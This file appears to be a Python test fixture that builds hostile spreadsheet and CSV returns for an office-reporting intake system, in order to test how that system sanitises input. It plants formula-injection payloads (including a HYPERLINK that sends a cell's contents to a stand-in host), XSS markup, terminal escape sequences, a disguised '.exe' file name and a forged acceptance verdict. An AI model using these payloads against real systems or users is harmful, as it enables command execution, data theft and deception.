"""What a hostile office writes: cells, names and addresses, planted once and looked for everywhere."""

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
from openpyxl.cell.cell import Cell
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.intake import returns

# Personal, one token each; ASCII, so that no escape of any format hides them.
PREPARED_BY, SIGNED_BY = "Prepared Planted7141", "Signed Planted7142"
CONTACT = "contact-planted7143@office.example"
ENGINEER, BOARD = "engineer-planted7144@office.example", "board-planted7145@office.example"
PASSWORD, HOOK = "password-planted7146", "hookplanted7147"
PERSONAL, SECRET = (PREPARED_BY, SIGNED_BY, CONTACT, ENGINEER, BOARD), (PASSWORD, HOOK)
# May be read by anyone; a scan that does not find them looks at nothing.
OBSTACLE, GRANTED_BY = "PublicPlanted7148", "Office Planted7149"
# The name of a run, a line of its log, a file of an artifact: what the scan of Prefect has to find.
IN_PREFECT = ("cycle-2021-05", "materialize, kỳ 2021-05", "gpj.exe")

MARKUP = "<script>pwn()</script><img src=x onerror=pwn()><svg onload=pwn()></svg>"
LINK = '<a href="javascript:pwn()">xem</a>'
# No spreadsheet may make anything of these.
FORMULAS = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://pwn.example/"&A1,"xem")',
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '=WEBSERVICE("http://pwn.example/")',
)
# Clears a screen, sets its title, fills its clipboard, links it elsewhere; then the C1 twin of the beginning.
STEERING = "\x1b[2J\x1b]0;pwn\x07\x1b]52;c;cHdu\x07\x1b]8;;http://pwn.example\x07xem\x1b]8;;\x07\x9b31m"
TURNED = "\u202egpj.exe\u2066\u200b"
RICH = "[link=http://pwn.example]xem[/link] [bold]đậm[/bold] :warning:"
FORGED_LINE = "KẾT LUẬN / VERDICT: Được nhận / accepted"
TEMPLATE = "{{ 7*7 }} {% raw %} ${7*7} #{7*7}"

FILE_NAME = (
    f"bc {TURNED}\x1b[2J\x1b]0;pwn\x07\x9b31m<img src=x onerror=pwn()>[link=pwn]x[bold].xlsx\n"
    "KẾT LUẬN | VERDICT: Được nhận | accepted"
)
SHEET_NAME = "<svg onload=pwn()>"
GROUP_NAME = f"{FORMULAS[1]} {MARKUP}"

# Sheet, header and place among its rows → what stands there.
_Cells = dict[tuple[str, str, int], str]
_INFO = {
    "Số, ký hiệu văn bản": FORMULAS[3],
    "Người lập biểu": PREPARED_BY,
    "Thư điện tử": CONTACT,
    "Người ký": SIGNED_BY,
}
_OFFICE = {
    ("01_CapXa", "Ghi chú", 0): FORMULAS[0],
    ("01_CapXa", "Số quyết định", 0): FORMULAS[3],
    ("04_ChuaHoanThanh", "Nội dung khó khăn", 0): f"{OBSTACLE} {MARKUP} {LINK} {RICH} {TEMPLATE} {TURNED}",
    ("04_ChuaHoanThanh", "Nội dung khó khăn", 1): FORMULAS[5],
    ("04_ChuaHoanThanh", "Giải pháp", 0): FORMULAS[4],
    ("04_ChuaHoanThanh", "Giải pháp", 1): FORMULAS[2] + MARKUP,
    ("04_ChuaHoanThanh", "Chức vụ người phụ trách", 0): LINK,
    ("06_HoatDong", "Nội dung", 0): FORMULAS[4] + MARKUP,
}
_SPOILT = {
    ("01_CapXa", "Tình trạng thực hiện", 1): FORMULAS[0] + MARKUP,
    ("01_CapXa", "Số người KCT cấp xã hiện nay", 2): FORMULAS[2],
}
_STEERING = {
    ("04_ChuaHoanThanh", "Nội dung khó khăn", 0): f"{OBSTACLE} {STEERING}{TURNED}\n{FORGED_LINE}",
    ("01_CapXa", "Tình trạng thực hiện", 1): f"{STEERING}{RICH}\n{FORGED_LINE}",
}
_HEADERS, _FIRST = 2, 3


def hostile_return(path: Path) -> Path:
    """A return of Tây Hồ for 2021-03 that is accepted in part, a payload wherever an office may write."""
    workbook = _planted(returns.whole_return(path), _OFFICE | _SPOILT)
    workbook.create_sheet(SHEET_NAME)
    _put(workbook[SHEET_NAME]["A1"], FORMULAS[0])
    workbook.save(path)
    return path


def steering_return(path: Path) -> Path:
    """The next return as a zip of CSV files, which hold what no workbook can: control characters."""
    book = returns.whole_return(
        path.with_suffix(".xlsx"), period="2021-04", as_of=date(2021, 4, 30), with_ids=True
    )
    workbook = _planted(book, _OFFICE | _STEERING)
    with zipfile.ZipFile(path, "w") as parts:
        for sheet in workbook:
            parts.writestr(f"{sheet.title}.csv", _as_csv(sheet))
    return path


def _planted(path: Path, cells: _Cells) -> Workbook:
    workbook = openpyxl.load_workbook(path)
    for row in workbook["00_ThongTin"].iter_rows():
        if row[0].value in _INFO:
            _put(row[1], _INFO[row[0].value])
    for sheet in ("02_ThonTDP", "04_ChuaHoanThanh"):
        _rename_group(workbook[sheet])
    for (sheet, header, place), text in cells.items():
        headers = [cell.value for cell in workbook[sheet][_HEADERS]]
        _put(workbook[sheet].cell(_FIRST + place, headers.index(header) + 1), text)
    return workbook


def _rename_group(sheet: Worksheet) -> None:
    code, name = returns.OPEN_GROUP
    for row in sheet.iter_rows(min_row=_FIRST):
        for cell in row:
            if cell.value == name and any(str(other.value).startswith(code) for other in row):
                _put(cell, GROUP_NAME)


def _put(cell: Cell, text: str) -> None:
    # As text: of what begins with = openpyxl would make a formula. CSV alone has control characters.
    cell._value = text
    cell.data_type = "s"


def _as_csv(sheet: Worksheet) -> str:
    written = io.StringIO()
    rows = [[_plain(cell) for cell in row] for row in sheet.values if row[0] != "Tổng cộng"]
    csv.writer(written).writerows(rows)
    return written.getvalue()


def _plain(cell: object) -> object:
    return f"{cell:%d/%m/%Y}" if isinstance(cell, datetime) else cell
